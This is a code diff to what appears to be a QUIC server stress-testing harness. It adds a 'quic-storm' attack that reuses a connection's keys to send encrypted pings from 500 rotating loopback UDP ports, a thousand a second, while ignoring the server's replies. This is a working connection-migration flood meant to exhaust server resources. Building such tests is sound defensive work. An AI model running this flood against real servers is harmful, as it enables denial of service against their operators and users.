@@ -33,6 +33,11 @@ _APPLICATION = 3
 """The epoch of what follows the handshake, as qh3 numbers them."""
 _MOVES = 0.005
 """Seconds at one address."""
+_PORTS = 500
+"""From which a connection sends in turns."""
+_BETWEEN = 0.001
+_PING = b"\x01" + bytes(31)
+"""With padding."""
 
 _keys: dict[int, tuple[str, bytes, bytes, bytes]] = {}
 """By the `id` of qh3's object: cipher, key, IV, and key of header protection."""
@@ -213,6 +218,33 @@ class _Moving:
             self._now = None
 
 
+async def _storm(connection: QuicConnection) -> None:
+    """Send from one port after the other, and answer nothing that is asked there."""
+    link, sealer = connection._link, Sealer(connection)
+    destination = link.destination
+    cast(Any, link._carrier)._deliver = lambda _: None  # as in _attack
+    socks = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(_PORTS)]
+    try:
+        for number, sock in enumerate(socks):
+            sock.setblocking(False)
+            sock.bind((f"127.66.{number % 250 + 1}.1", 0))
+        began = trio.current_time()
+        for number in count():
+            connection.raise_if_closed()
+            packet = sealer.packet(_PING)
+            socks[number % _PORTS].sendto(packet, destination)
+            Attacker.sent += len(packet)
+            await trio.sleep_until(began + number * _BETWEEN)
+    finally:
+        for sock in socks:
+            sock.close()
+
+
+async def _migrate_at_once(victim: Victim) -> None:
+    keep_keys()
+    await _as_connections(victim, _storm)
+
+
 async def _move(connection: QuicConnection) -> None:
     endpoint: Any = connection._link._carrier
     moving = _Moving(endpoint, endpoint._sock)
@@ -257,5 +289,10 @@ MIGRATIONS = Attack(
     "quic-migrations",
     "4 connections move to another network as fast as they are followed",
     _migrate,
+)
+STORM = Attack(
+    "quic-storm",
+    "4 connections send each packet from another port, a thousand a second",
+    _migrate_at_once,
 )
 EMPTY = Attack("quic-empty-datagrams", "datagrams without a byte", _send_nothing)
